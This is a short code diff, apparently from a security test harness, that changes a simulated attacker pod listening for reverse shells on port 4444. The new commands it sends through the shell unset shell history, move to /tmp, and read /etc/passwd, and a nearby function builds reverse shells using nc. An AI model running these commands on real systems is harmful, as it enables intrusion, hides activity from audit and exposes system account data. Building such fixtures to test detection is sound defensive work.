@@ -50,7 +50,7 @@ export const web = pod(SHOP, 'web', [
 ]);
 
 /** An attacker's machine: answers reverse shells on port 4444. */
-export const peer = pod(SHOP, 'peer', [{ name: 'listener', command: ['answer', '4444', 'id', 'uname -a'] }]);
+export const peer = pod(SHOP, 'peer', [{ name: 'listener', command: ['answer', '4444', 'unset HISTFILE', 'cd /tmp', 'id', 'cat /etc/passwd'] }]);
 
 /** Reverse shells to an address, dialled by a program of their own and by busybox's nc. */
 export function reverseShell(address: string) {
